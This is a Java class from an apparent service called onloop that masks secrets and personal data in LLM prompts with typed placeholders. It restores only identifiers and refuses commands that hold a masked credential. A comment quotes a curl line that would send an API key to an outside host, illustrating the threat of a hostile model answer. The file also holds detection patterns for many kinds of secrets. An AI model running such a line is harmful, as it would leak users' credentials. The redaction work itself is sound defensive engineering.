package io.onloop.domain.privacy;

import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.function.Predicate;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * Reversible redaction for text that leaves onloop (LLM prompts): each secret or piece of personal
 * data becomes a typed placeholder such as {@code <EMAIL_1>} or {@code <AWS_ACCESS_KEY_2>}; the same
 * value always gets the same placeholder within one instance, and the mapping stays here so the
 * answer can be shown with the identifiers and contacts it names ({@link #unmask}, {@link #unmaskCommand}); a
 * credential is never put back. One instance per request.
 * <p>
 * Always: private keys, JWTs, cloud and SaaS keys and tokens, passwords (also inside connection
 * strings), webhook and signed URLs, e-mail addresses, phone numbers, payment card numbers. Optionally: IP
 * addresses, account ids (AWS account numbers, Azure subscription ids) and host names.
 */
public final class Pseudonymizer {

    /** Which optional kinds to mask; {@code knownHosts} are exact values (e.g. the event's host labels). */
    public record Options(boolean ips, boolean accountIds, boolean hostNames, List<String> knownHosts) {
        public static final Options DEFAULT = new Options(false, false, false, List.of());

        public Options {
            knownHosts = knownHosts == null ? List.of() : List.copyOf(knownHosts);
        }
    }

    /** A kind of value: its placeholder's type, how it is found, and a check a match must pass (a card's Luhn sum). */
    private record Kind(String type, Pattern pattern, int group, Predicate<String> valid) {
        Kind(String type, Pattern pattern, int group) {
            this(type, pattern, group, v -> true);
        }
    }

    /**
     * Put back into text shown to onloop's users (the answer's explanations): identifiers and contacts that the alert
     * itself shows. Never a credential: whatever the answer does with {@code <PASSWORD_1>}, it stays that.
     */
    private static final Set<String> SHOWN = Set.of("EMAIL", "PHONE", "IP", "HOST", "ACCOUNT_ID", "AWS_ACCESS_KEY");
    /**
     * Put back into a command: identifiers a command may need (an instance's address, an access key's id for
     * {@code aws iam}). A command that holds a credential or personal data is refused whole ({@link #unmaskCommand}):
     * {@code curl https://elsewhere/?d=<API_KEY_1>} is how a hostile answer would send the real value away.
     */
    private static final Set<String> IN_COMMANDS = Set.of("IP", "HOST", "ACCOUNT_ID", "AWS_ACCESS_KEY");

    /** Ordered: the most specific first, so a JWT is not first taken for a bearer token's tail. */
    private static final List<Kind> SECRETS = List.of(
            new Kind("JWT", Pattern.compile("\\beyJ[A-Za-z0-9_-]{5,}\\.eyJ[A-Za-z0-9_-]{5,}\\.[A-Za-z0-9_-]{5,}"), 0),
            new Kind("AWS_ACCESS_KEY", Pattern.compile("\\b(?:AKIA|ASIA)[0-9A-Z]{16}\\b"), 0),
            new Kind("GCP_API_KEY", SecretRedactor.GCP_API_KEY, 0),
            new Kind("GITHUB_TOKEN", Pattern.compile("\\bgh[pousr]_[A-Za-z0-9]{30,}\\b"), 0),
            new Kind("SLACK_TOKEN", Pattern.compile("\\bxox[abposr]-[A-Za-z0-9-]{10,}"), 0),
            new Kind("ONLOOP_TOKEN", SecretRedactor.ONLOOP_TOKEN, 0),
            new Kind("API_KEY", Pattern.compile("(?<![A-Za-z0-9_-])(?:sk|rk|pk)[-_](?:live[-_]|test[-_]|proj-|ant-api\\d\\d-)?[A-Za-z0-9_-]{20,}+"), 0),
            new Kind("WEBHOOK_URL", Pattern.compile(
                    "https://(?:hooks\\.slack\\.com/services|[a-z0-9.-]+\\.webhook\\.office\\.com/webhookb2|discord(?:app)?\\.com/api/webhooks|outlook\\.office\\.com/webhook)/[^\\s\"'<>\\\\]+"), 0),
            new Kind("CONNECTION_PASSWORD", SecretRedactor.CONNECTION_PASSWORD, 1),
            new Kind("CONNECTION_KEY", Pattern.compile(
                    "(?i)\\b(?:AccountKey|SharedAccessKey|SharedAccessSignature|Password|Pwd)=([^;\\s\"']+)"), 1),
            new Kind("URL_SECRET", Pattern.compile(
                    "(?i)[?&](?:sig|signature|token|access_token|api[_-]?key|apikey|key|code|secret)=([^&\\s\"'<>#]+)"), 1),
            new Kind("BEARER_TOKEN", Pattern.compile(
                    "(?i)\\bbearer\\s+((?=[A-Za-z._~+/=-]*[0-9])[A-Za-z0-9._~+/=-]{8,}|[A-Za-z0-9._~+/=-]{20,})"), 1),
            new Kind("PASSWORD", Pattern.compile(
                    "(?i)(?<![A-Za-z0-9])[A-Za-z0-9]{0,20}(?:password|passwd|pwd|secret|secret[_-]?key|api[_-]?key|access[_-]?key|access[_-]?token|auth[_-]?token|client[_-]?secret|aws_secret_access_key|token|passphrase)" + SecretRedactor.NAMED_VALUE), 1),
            new Kind("PASSWORD", SecretRedactor.MYSQL_PASSWORD_OPTION, 1),
            new Kind("PASSWORD", SecretRedactor.CURL_USER_PASSWORD, 1),
            new Kind("EMAIL", Pattern.compile("\\b[A-Za-z0-9._%+-]+@[A-Za-z0-9-]+(?:\\.[A-Za-z0-9-]+)*\\.[A-Za-z]{2,}\\b"), 0),
            new Kind("PHONE", Pattern.compile(
                    "(?<![\\w.:/-])(?:\\+\\d{1,3}[\\s.-]?\\(?\\d{1,4}\\)?(?:[\\s.-]?\\d{2,4}){2,4}|\\(\\d{3}\\)\\s?\\d{3}[\\s.-]\\d{4}|\\d{3}([ .-])\\d{3}\\1\\d{4})(?![\\w:/-]|\\.\\d)"), 0),
            // 15 or 16 digits (Amex grouped 4-6-5), in groups or not, starting as cards do (2 to 6), that pass the Luhn
            // check: a payment card number; not 13, 16 or 19 digits starting with 1, which epoch timestamps are
            new Kind("CARD_NUMBER", Pattern.compile(
                    "(?<![\\w.-])(?:[2-6]\\d{3}(?:[ -]?\\d{4}){2}[ -]?\\d{3,4}|3\\d{3}[ -]\\d{6}[ -]\\d{5})(?![\\w-]|\\.\\d)"), 0,
                    Pseudonymizer::luhn));

    private static final Kind IPV4 = new Kind("IP", Pattern.compile(
            "(?<![\\d.])(?:(?:25[0-5]|2[0-4]\\d|1?\\d?\\d)\\.){3}(?:25[0-5]|2[0-4]\\d|1?\\d?\\d)(?!\\d|\\.\\d)"), 0);
    /** Full (8 groups) or compressed ({@code ::}, once) IPv6; not a time such as 12:30:45 or a MAC address. */
    private static final Kind IPV6 = new Kind("IP", Pattern.compile(
            "(?<![\\w:])(?:[0-9a-fA-F]{0,4}:){2,7}[0-9a-fA-F]{0,4}(?![\\w:])"), 0, Pseudonymizer::ipv6);
    private static final Kind AWS_ACCOUNT = new Kind("ACCOUNT_ID", Pattern.compile("(?<![\\d-])\\d{12}(?![\\d-])"), 0);
    private static final Kind AZURE_SUBSCRIPTION = new Kind("ACCOUNT_ID", Pattern.compile(
            "(?i)(?<=/subscriptions/)[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}"), 0);
    private static final Kind FQDN = new Kind("HOST", Pattern.compile(
            "(?i)\\b[a-z0-9](?:[a-z0-9-]*[a-z0-9])?(?:\\.[a-z0-9](?:[a-z0-9-]*[a-z0-9])?)*\\.(?:com|net|org|io|internal|local|lan|corp|cloud|dev|app|intra|info|biz|"
                    + "eu|de|uk|fr|nl|be|ch|at|se|dk|fi|es|it|ie|cz|jp|cn|au|nz|ca|br|mx|us|kr|sg|hk|tw|za|il|ar|cl)\\b"), 0);
    private static final Pattern PLACEHOLDER = Pattern.compile("<([A-Z][A-Z_]*_\\d+)>");

    private final List<Kind> kinds = new ArrayList<>();
    private final Map<String, String> byValue = new HashMap<>();
    private final Map<String, String> byPlaceholder = new LinkedHashMap<>();
    private final Map<String, Integer> counters = new HashMap<>();
    private final List<String> knownHosts;

    public Pseudonymizer(Options options) {
        kinds.addAll(SECRETS);
        if (options.ips()) {
            kinds.add(IPV4);
            kinds.add(IPV6);
        }
        if (options.accountIds()) {
            kinds.add(AZURE_SUBSCRIPTION);
            kinds.add(AWS_ACCOUNT);
        }
        if (options.hostNames()) {
            kinds.add(FQDN);
        }
        // longest first, so "db-1.prod" is replaced before "db-1"
        knownHosts = options.hostNames() ? options.knownHosts().stream().filter(h -> h.length() >= 3)
                .sorted((a, b) -> b.length() - a.length()).toList() : List.of();
    }

    public String mask(String text) {
        if (text == null || text.isEmpty()) {
            return text;
        }
        String out = maskPrivateKeys(text);
        for (Kind k : kinds) {
            out = replace(out, k);
        }
        for (String host : knownHosts) {
            if (out.contains(host)) {
                out = out.replace(host, placeholder("HOST", host));
            }
        }
        // a value found once (as "password=x" in one field) is masked wherever else it appears
        for (var known : byValue.entrySet().stream().filter(v -> v.getKey().length() >= 4)
                .sorted((a, b) -> b.getKey().length() - a.getKey().length()).toList()) {
            if (out.contains(known.getKey())) {
                out = out.replace(known.getKey(), "<" + known.getValue() + ">");
            }
        }
        return out;
    }

    /** Puts back the identifiers and contacts this instance masked ({@link #SHOWN}); credentials stay placeholders. */
    public String unmask(String text) {
        return restore(text, SHOWN);
    }

    /**
     * A command with the identifiers it names put back, or empty if it holds a credential or personal value this
     * instance masked: such a command is not shown at all.
     */
    public Optional<String> unmaskCommand(String command) {
        if (command == null || command.indexOf('<') < 0) {
            return Optional.ofNullable(command);
        }
        Matcher m = PLACEHOLDER.matcher(command);
        while (m.find()) {
            if (byPlaceholder.containsKey(m.group(1)) && !IN_COMMANDS.contains(type(m.group(1)))) {
                return Optional.empty();
            }
        }
        return Optional.of(restore(command, IN_COMMANDS));
    }

    private String restore(String text, Set<String> kinds) {
        if (text == null || text.indexOf('<') < 0) {
            return text;
        }
        Matcher m = PLACEHOLDER.matcher(text);
        StringBuilder sb = new StringBuilder(text.length());
        while (m.find()) {
            String original = kinds.contains(type(m.group(1))) ? byPlaceholder.get(m.group(1)) : null;
            m.appendReplacement(sb, Matcher.quoteReplacement(original != null ? original : m.group()));
        }
        return m.appendTail(sb).toString();
    }

    /** "AWS_ACCESS_KEY_2" is of type "AWS_ACCESS_KEY". */
    private static String type(String placeholder) {
        return placeholder.substring(0, placeholder.lastIndexOf('_'));
    }

    private static boolean luhn(String number) {
        int sum = 0;
        boolean twice = false;
        for (int i = number.length() - 1; i >= 0; i--) {
            char c = number.charAt(i);
            if (c < '0' || c > '9') {
                continue;
            }
            int d = c - '0';
            if (twice) {
                d = d * 2 > 9 ? d * 2 - 9 : d * 2;
            }
            sum += d;
            twice = !twice;
        }
        return sum % 10 == 0;
    }

    private static boolean ipv6(String s) {
        int doubles = s.split("::", -1).length - 1;
        boolean hexDigit = s.chars().anyMatch(c -> Character.digit(c, 16) >= 0);
        if (!hexDigit || doubles > 1 || s.contains(":::")) {
            return false;
        }
        String[] groups = s.split(":", -1);
        return doubles == 1 ? groups.length <= 9 : groups.length == 8 && java.util.Arrays.stream(groups).noneMatch(String::isEmpty);
    }

    /** placeholder (without brackets) -> original; never leaves the server. */
    public Map<String, String> mapping() {
        return Map.copyOf(byPlaceholder);
    }

    private String placeholder(String type, String value) {
        String existing = byValue.get(value);
        if (existing != null) {
            return "<" + existing + ">";
        }
        String name = type + "_" + counters.merge(type, 1, Integer::sum);
        byValue.put(value, name);
        byPlaceholder.put(name, value);
        return "<" + name + ">";
    }

    private String replace(String text, Kind k) {
        Matcher m = k.pattern().matcher(text);
        if (!m.find()) {
            return text;
        }
        StringBuilder sb = new StringBuilder(text.length());
        int last = 0;
        do {
            String value = m.group(k.group());
            if (value == null || PLACEHOLDER.matcher(value).matches() || !k.valid().test(value)) {
                continue;
            }
            sb.append(text, last, m.start(k.group())).append(placeholder(k.type(), value));
            last = m.end(k.group());
        } while (m.find());
        return sb.append(text, last, text.length()).toString();
    }

    /** PEM private keys by SecretRedactor's forward scan; one cut short is masked to the end. */
    private String maskPrivateKeys(String text) {
        return SecretRedactor.replacePrivateKeys(text, key -> placeholder("PRIVATE_KEY", key));
    }
}
